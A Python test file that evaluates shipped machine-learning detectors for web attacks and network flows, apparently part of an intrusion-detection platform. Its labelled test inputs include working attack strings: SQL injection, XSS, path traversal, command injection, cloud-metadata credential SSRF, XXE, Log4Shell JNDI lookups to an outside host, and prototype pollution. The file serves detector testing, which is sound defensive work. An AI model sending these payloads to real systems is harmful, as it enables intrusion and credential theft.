"""The models that come with the platform, on what it was not trained on."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pytest

from ml_core.kinds import FLOWS, KINDS, REQUESTS
from ml_core.kinds.flows.columns import FLOW_COLUMNS
from ml_core.model_file import shipped
from ml_core.readers import read_frames
from ml_core.scorer import Scorer, Verdicts
from tests.benchmarks.range_tables import flow_table, request_table

HELD_OUT = Path(__file__).parents[2] / "knowledge_base" / "risk_data" / "range_holdout"

SAID = {
    "normal": (
        "GET /",
        "GET /static/css/site.css?v=12",
        "GET /search?q=O%27Brien+and+sons",
        "GET /search?q=select+a+gift+for+union+workers",
        "GET /api/v1/users/42",
        "POST /login\nusername=anna&password=S3cret!x",
        'POST /api/orders\n{"item": "lamp", "note": "don\'t ring; leave it at the door"}',
    ),
    "sqli": (
        "GET /item?id=1%27%20OR%20%271%27=%271",
        "GET /item?id=1+UNION+SELECT+null,version()--",
        "POST /login\nusername=admin'--&password=x",
    ),
    "xss": (
        "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        'GET /?q="><img src=x onerror=alert(1)>',
    ),
    "path_traversal": (
        "GET /download?file=../../../../etc/passwd",
        "GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
    ),
    "cmdi": (
        "GET /ping?host=8.8.8.8%7Ccat+/etc/passwd",
        "GET /uploads/shell.php?cmd=whoami",
    ),
}
UNNAMED = (  # attacks that no class names
    "GET /index.php?page=php://filter/convert.base64-encode/resource=config.php",
    "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "GET /preview?url=gopher://127.0.0.1:6379/_FLUSHALL",
    "GET /login?user[$ne]=x&password[$ne]=x",
    "GET /hello?name={{request.application.__globals__.__builtins__}}",
    'POST /import\n<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "GET /people?uid=*)(uid=*))(|(uid=*",
    "GET /go?next=/%0d%0aSet-Cookie:session=1",
    "GET /?x=${${lower:j}ndi:ldap://203.0.113.9/a}",
    "GET /?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
    'POST /load\ndata=O:8:"Gadget_A":1:{s:4:"file";s:9:"shell.php";}',
    'POST /api/settings\n{"__proto__":{"isAdmin":true}}',
)
ALIKE = (  # harmless, with their signs
    "GET /view.php?page=resources/config-guide.php",
    "GET /share?url=https%3A%2F%2Fnews.example%2Fworld%2Flatest",
    "GET /login?user=anna&next=http://shop.example/account",
    "GET /items?$filter=price gt 20&$top=10",
    "POST /mails\nbody=Dear+{{customer.name}},+your+order+is+here",
    'POST /import\n<?xml version="1.0"?><order><item id="7">lamp</item></order>',
    "GET /people?name=Meyer+(Berlin)",
    "POST /contact\ntext=First+line%0D%0Asecond+line",
    "GET /?x=${price}",
    "GET /docs?class=java.util.ArrayList",
    'POST /load\ndata=a:1:{s:4:"lang";s:2:"de";}',
    'POST /api/settings\n{"proto":{"version":"v3"}}',
)


@pytest.mark.parametrize("kind", KINDS)
def test_a_shipped_model_loads_is_small_and_has_a_card(kind: str) -> None:
    folder = shipped(kind)
    model = Scorer.load(folder, kind).model
    assert sum(path.stat().st_size for path in folder.iterdir()) < 5_000_000
    card = folder.parents[2] / "docs" / "models" / f"{folder.name}.md"
    text = card.read_text()
    assert model.digest[:12] in text
    for name in model.training["files"]:
        assert name.partition(".")[0] in text, f"{card.name} does not name {name}"


def test_requests_written_here_get_the_right_verdict_and_reason() -> None:
    texts = [text for group in SAID.values() for text in group]
    verdicts = Scorer.load(shipped(REQUESTS)).score_texts(texts)
    assert verdicts.label_names == [name for name, group in SAID.items() for _ in group]
    (why,) = verdicts.explain([texts.index("GET /uploads/shell.php?cmd=whoami")], top=1)
    assert why.reasons[0].field == "url.query[cmd]"
    assert why.reasons[0].weight > 0


def test_attacks_that_no_class_names_are_seldom_called_harmless_and_what_looks_like_them_is() -> (
    None
):
    scorer = Scorer.load(shipped(REQUESTS))
    attacks, alike = (scorer.score_texts(texts) for texts in (UNNAMED, ALIKE))
    assert ((attacks.p_attack > 0.5) | attacks.unsure).mean() > 0.9
    assert (alike.p_attack > 0.5).mean() < 0.1


@pytest.fixture(scope="module")
def flows(tmp_path_factory: pytest.TempPathFactory) -> tuple[np.ndarray, Verdicts]:
    """Labels and verdicts of the held-out recording, measured by our own meter."""
    path = tmp_path_factory.mktemp("range") / "flows.parquet"
    flow_table(HELD_OUT).write_parquet(path)
    from ml_core.readers import read_flows

    frames = read_frames([path])
    table = read_flows(frames)
    verdicts = Scorer.load(shipped(FLOWS)).score_flows(
        table.features, FLOW_COLUMNS, table.group, table.time, table.destination, table.port
    )
    return frames[0]["Label"].to_numpy(), verdicts


@pytest.mark.skipif(not HELD_OUT.exists(), reason="no held-out recording is shipped")
@pytest.mark.parametrize(
    ("label", "name", "least"),
    [
        ("benign", "Normal", 0.93),
        ("port_scan (nmap)", "Portscan", 0.95),
        ("flood (hping3)", "DoS", 0.95),
        ("ssh_brute_force (hydra)", "BruteForce", 0.7),
        ("web_injection (sqlmap)", "WebAttack", 0.9),
    ],
)
def test_flows_of_a_recording_it_never_saw_are_judged_right(
    flows: tuple[np.ndarray, Verdicts], label: str, name: str, least: float
) -> None:
    labels, verdicts = flows
    said = np.array(verdicts.label_names)[labels == label]
    assert (said == name).mean() >= least


@pytest.mark.skipif(not HELD_OUT.exists(), reason="no held-out recording is shipped")
def test_requests_of_a_recording_it_never_saw_are_judged_right() -> None:
    table = request_table(HELD_OUT)
    verdicts = Scorer.load(shipped(REQUESTS)).score_texts(table["request"].to_list())
    benign = (table["Label"] == "benign").to_numpy()
    assert (verdicts.p_attack[benign] > 0.5).mean() < 0.01
    assert (verdicts.p_attack[~benign] > 0.5).mean() > 0.85
